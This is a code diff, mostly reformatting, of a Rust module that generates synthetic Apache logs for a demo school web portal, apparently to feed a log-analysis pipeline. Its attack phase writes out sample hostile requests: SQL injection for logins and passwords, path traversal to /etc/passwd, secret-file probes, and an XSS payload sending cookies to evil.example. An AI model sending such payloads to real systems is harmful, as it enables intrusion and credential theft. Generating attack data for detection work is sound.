@@ -22,8 +22,7 @@ use crate::pipe::RawRecord;
 /// The Apache `LogFormat` the demo's web server writes: Debian's `vhost_combined` plus the
 /// client's source port (`%{remote}p`, required by decree 2021-1362 behind carrier-grade NAT)
 /// and the service time in microseconds (`%D`).
-pub const WEB_LOG_FORMAT: &str =
-    r#"%v:%p %h %{remote}p %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i" %D"#;
+pub const WEB_LOG_FORMAT: &str = r#"%v:%p %h %{remote}p %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i" %D"#;
 
 /// The public name of the demo ENT.
 pub const ENT_HOST: &str = "ent.ville-exemple.fr";
@@ -40,27 +39,65 @@ pub struct School {
 }
 
 const PATRONS: &[&str] = &[
-    "Jean Jaurès", "Jules Ferry", "Victor Hugo", "Louise Michel", "Marie Curie", "Jean Moulin",
-    "Paul Bert", "Louis Pasteur", "Condorcet", "Jacques Prévert", "Anatole France", "Simone Veil",
-    "Lucie Aubrac", "Jean de La Fontaine", "Charles Perrault", "Antoine de Saint-Exupéry",
-    "Françoise Dolto", "George Sand", "Colette", "Olympe de Gouges", "Jean Zay", "Molière",
-    "Paul Langevin", "Irène Joliot-Curie", "Aimé Césaire", "Robert Desnos", "Marcel Pagnol",
-    "Albert Camus", "Émile Zola", "Romain Rolland", "Anne Frank", "Germaine Tillion",
-    "Joséphine Baker", "Les Tilleuls", "Les Marronniers", "Les Acacias", "Le Petit Prince",
-    "Les Cerisiers", "La Roseraie", "Le Bois Joli", "Pierre Perret", "Alphonse Daudet",
-    "Gaston Bachelard", "Frédéric Mistral", "Henri Wallon", "Maurice Ravel", "Claude Debussy",
+    "Jean Jaurès",
+    "Jules Ferry",
+    "Victor Hugo",
+    "Louise Michel",
+    "Marie Curie",
+    "Jean Moulin",
+    "Paul Bert",
+    "Louis Pasteur",
+    "Condorcet",
+    "Jacques Prévert",
+    "Anatole France",
+    "Simone Veil",
+    "Lucie Aubrac",
+    "Jean de La Fontaine",
+    "Charles Perrault",
+    "Antoine de Saint-Exupéry",
+    "Françoise Dolto",
+    "George Sand",
+    "Colette",
+    "Olympe de Gouges",
+    "Jean Zay",
+    "Molière",
+    "Paul Langevin",
+    "Irène Joliot-Curie",
+    "Aimé Césaire",
+    "Robert Desnos",
+    "Marcel Pagnol",
+    "Albert Camus",
+    "Émile Zola",
+    "Romain Rolland",
+    "Anne Frank",
+    "Germaine Tillion",
+    "Joséphine Baker",
+    "Les Tilleuls",
+    "Les Marronniers",
+    "Les Acacias",
+    "Le Petit Prince",
+    "Les Cerisiers",
+    "La Roseraie",
+    "Le Bois Joli",
+    "Pierre Perret",
+    "Alphonse Daudet",
+    "Gaston Bachelard",
+    "Frédéric Mistral",
+    "Henri Wallon",
+    "Maurice Ravel",
+    "Claude Debussy",
 ];
 const KINDS: &[&str] = &["École élémentaire", "École maternelle", "École primaire", "Groupe scolaire"];
 const FIRST_NAMES: &[&str] = &[
-    "lea", "lucas", "emma", "gabriel", "jade", "louis", "chloe", "raphael", "ines", "arthur",
-    "lina", "hugo", "mila", "jules", "rose", "adam", "anna", "nathan", "zoe", "noah", "amelie",
-    "sacha", "manon", "ethan", "julia", "tom", "camille", "leo", "sarah", "yanis",
+    "lea", "lucas", "emma", "gabriel", "jade", "louis", "chloe", "raphael", "ines", "arthur", "lina", "hugo", "mila",
+    "jules", "rose", "adam", "anna", "nathan", "zoe", "noah", "amelie", "sacha", "manon", "ethan", "julia", "tom",
+    "camille", "leo", "sarah", "yanis",
 ];
 const LAST_NAMES: &[&str] = &[
-    "martin", "bernard", "dubois", "thomas", "robert", "richard", "petit", "durand", "leroy",
-    "moreau", "simon", "laurent", "lefebvre", "michel", "garcia", "david", "bertrand", "roux",
-    "vincent", "fournier", "morel", "girard", "andre", "mercier", "dupont", "lambert", "bonnet",
-    "francois", "martinez", "nguyen", "benali", "diallo", "haddad", "kone", "rousseau",
+    "martin", "bernard", "dubois", "thomas", "robert", "richard", "petit", "durand", "leroy", "moreau", "simon",
+    "laurent", "lefebvre", "michel", "garcia", "david", "bertrand", "roux", "vincent", "fournier", "morel", "girard",
+    "andre", "mercier", "dupont", "lambert", "bonnet", "francois", "martinez", "nguyen", "benali", "diallo", "haddad",
+    "kone", "rousseau",
 ];
 const BROWSERS: &[&str] = &[
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
@@ -227,33 +264,89 @@ fn web_line(rng: &mut StdRng, schools: &[School], phase: Phase, local: &jiff::Zo
     let attack = phase == Phase::Attack && rng.random_range(0..100) < 40;
     let (method, path, status, bytes, user, ip, ua) = if attack {
         let (method, path, status, ua): (&str, String, u16, &str) = match rng.random_range(0..7u32) {
-            0 => ("GET", format!("/ent/blog/article/article-{}?id=1%27%20UNION%20SELECT%20login,password%20FROM%20user--", rng.random_range(1..900)), 500, "sqlmap/1.8.11#stable (https://sqlmap.org)"),
-            1 => ("GET", "/ent/media_download.php?filename=..%2F..%2F..%2F..%2Fetc%2Fpasswd".into(), 403, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000640)"),
-            2 => ("GET", ["/.env", "/.git/config", "/ent/app_dev.php", "/ent/_profiler", "/phpmyadmin/index.php", "/backup.sql"][rng.random_range(0..6)].into(), 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)"),
-            3 => ("GET", format!("/ent/blog/recherche?q=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%27%2Bdocument.cookie%3C%2Fscript%3E&p={}", rng.random_range(1..9)), 200, "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"),
+            0 => (
+                "GET",
+                format!(
+                    "/ent/blog/article/article-{}?id=1%27%20UNION%20SELECT%20login,password%20FROM%20user--",
+                    rng.random_range(1..900)
+                ),
+                500,
+                "sqlmap/1.8.11#stable (https://sqlmap.org)",
+            ),
+            1 => (
+                "GET",
+                "/ent/media_download.php?filename=..%2F..%2F..%2F..%2Fetc%2Fpasswd".into(),
+                403,
+                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000640)",
+            ),
+            2 => (
+                "GET",
+                ["/.env", "/.git/config", "/ent/app_dev.php", "/ent/_profiler", "/phpmyadmin/index.php", "/backup.sql"]
+                    [rng.random_range(0..6)]
+                .into(),
+                404,
+                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000123)",
+            ),
+            3 => (
+                "GET",
+                format!(
+                    "/ent/blog/recherche?q=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.example%2F%27%2Bdocument.cookie%3C%2Fscript%3E&p={}",
+                    rng.random_range(1..9)
+                ),
+                200,
+                "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
+            ),
             _ => ("POST", "/oauth/v2/auth_login_check".into(), 401, "python-requests/2.32.3"),
         };
         if path == "/oauth/v2/auth_login_check" {
             referer = format!("https://{ENT_HOST}/oauth/v2/auth_login");
         }
         let victim = format!("{first}.{last}.ens");
-        (method, path, status, rng.random_range(300..2000u32), if method == "POST" { victim } else { "-".into() }, ATTACKER.to_owned(), ua)
+        (
+            method,
+            path,
+            status,
+            rng.random_range(300..2000u32),
+            if method == "POST" { victim } else { "-".into() },
+            ATTACKER.to_owned(),
+            ua,
+        )
     } else {
         // Beneylu School 3 routes: everything under /ent, the Angular app's JSON API under
         // /ent/api/1.0, logins through the city's OAuth server then the /ent/login_check callback.
         let pick = rng.random_range(0..100u32);
         let (method, path, mut status) = match pick {
             0..=5 => ("GET", "/ent/".to_owned(), 200),
-            6..=9 => ("POST", "/oauth/v2/auth_login_check".to_owned(), if rng.random_range(0..100) < 5 { 401 } else { 302 }),
-            10..=13 => ("GET", format!("/ent/login_check?code={:x}&state={:x}", rng.random::<u64>(), rng.random::<u32>()), 302),
+            6..=9 => {
+                ("POST", "/oauth/v2/auth_login_check".to_owned(), if rng.random_range(0..100) < 5 { 401 } else { 302 })
+            }
+            10..=13 => {
+                ("GET", format!("/ent/login_check?code={:x}&state={:x}", rng.random::<u64>(), rng.random::<u32>()), 302)
+            }
             14..=15 => ("GET", "/ent/disconnect".to_owned(), 302),
             16..=25 => ("GET", "/ent/classe/".to_owned(), 200),
             26..=33 => ("GET", "/ent/blog/".to_owned(), 200),
-            34..=42 => ("GET", format!("/ent/blog/article/{}", ["sortie-au-musee", "carnaval-de-l-ecole", "la-classe-verte", "fete-de-fin-d-annee", "nos-plantations", "visite-de-la-caserne"][rng.random_range(0..6)]), 200),
+            34..=42 => (
+                "GET",
+                format!(
+                    "/ent/blog/article/{}",
+                    [
+                        "sortie-au-musee",
+                        "carnaval-de-l-ecole",
+                        "la-classe-verte",
+                        "fete-de-fin-d-annee",
+                        "nos-plantations",
+                        "visite-de-la-caserne"
+                    ][rng.random_range(0..6)]
+                ),
+                200,
+            ),
             43..=44 => ("POST", "/ent/blog/gestion/nouvel-article/terminer".to_owned(), 302),
             45..=46 => ("POST", "/ent/commentaire/ajouter".to_owned(), 200),
             47..=52 => ("GET", "/ent/app/".to_owned(), 200),
-            53..=57 => ("GET", format!("/ent/api/1.0/messaging/conversations/{}.json", rng.random_range(1..90000)), 200),
+            53..=57 => {
+                ("GET", format!("/ent/api/1.0/messaging/conversations/{}.json", rng.random_range(1..90000)), 200)
+            }
             58..=59 => ("POST", "/ent/api/1.0/messaging/messages.json".to_owned(), 201),
             60..=64 => ("GET", format!("/ent/mediatheque-2/download/{}", rng.random_range(1..50000)), 302),
             65..=67 => ("GET", "/ent/cahier-de-texte/".to_owned(), 200),
@@ -261,7 +354,15 @@ fn web_line(rng: &mut StdRng, schools: &[School], phase: Phase, local: &jiff::Zo
             70..=71 => ("GET", "/ent/profil".to_owned(), 200),
             72..=83 => ("GET", "/ent/api/1.0/messaging/counters.json".to_owned(), 200),
             84..=89 => ("GET", "/ent/api/1.0/users/me/applications.json".to_owned(), 200),
-            90..=97 => ("GET", format!("/ent/medias/{}", ["js/tinymce/beneylu.js", "css/commons/tiny-mce.css", "images/icons/categories/blog.png"][rng.random_range(0..3)]), 304),
+            90..=97 => (
+                "GET",
+                format!(
+                    "/ent/medias/{}",
+                    ["js/tinymce/beneylu.js", "css/commons/tiny-mce.css", "images/icons/categories/blog.png"]
+                        [rng.random_range(0..3)]
+                ),
+                304,
+            ),
             _ => ("GET", format!("/ent/blog/article/article-{}", rng.random_range(90000..99999)), 404),
         };
         if phase == Phase::Outage && !path.starts_with("/ent/medias/") {
@@ -275,7 +376,8 @@ fn web_line(rng: &mut StdRng, schools: &[School], phase: Phase, local: &jiff::Zo
         let user = if path == "/ent/" && status == 200 && pick < 6 { "-".into() } else { user };
         (method, path, status, bytes, user, ip, ua)
     };
-    let micros: u32 = if status == 503 { rng.random_range(30_000_000..30_100_000) } else { rng.random_range(8_000..450_000) };
+    let micros: u32 =
+        if status == 503 { rng.random_range(30_000_000..30_100_000) } else { rng.random_range(8_000..450_000) };
     let when = local.strftime("%d/%b/%Y:%H:%M:%S %z");
     format!(
         "{ENT_HOST}:443 {ip} {port} - {user} [{when}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{ua}\" {micros}"
@@ -344,9 +446,8 @@ impl Source for DemoSource {
             self.next = due;
         }
         due = due.min(self.next + max as u64);
-        let records = (self.next..due)
-            .map(|n| RawRecord { source: self.id.clone(), position: n, line: self.line(n) })
-            .collect();
+        let records =
+            (self.next..due).map(|n| RawRecord { source: self.id.clone(), position: n, line: self.line(n) }).collect();
         self.next = due;
         Ok(Some(records))
     }
